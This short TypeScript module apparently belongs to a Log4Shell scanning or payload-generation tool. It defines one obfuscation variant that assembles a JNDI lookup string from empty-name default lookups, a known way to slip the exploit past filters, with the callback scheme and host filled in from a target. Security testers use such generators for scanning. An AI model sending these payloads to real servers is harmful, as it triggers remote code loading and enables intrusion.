import { afterScheme, disguise } from '../form.ts'

export const unnamedDefault = disguise(
  {
    id: 'unnamed-default',
    summary: 'characters as defaults of an empty name',
    firesOn: ['B', 'C'],
    seenIn: ['Log4j2Scan'],
  },
  (target) => `\${\${:-j}\${:-n}\${:-d}\${:-i}:${target.scheme}:${afterScheme(target)}}`,
)
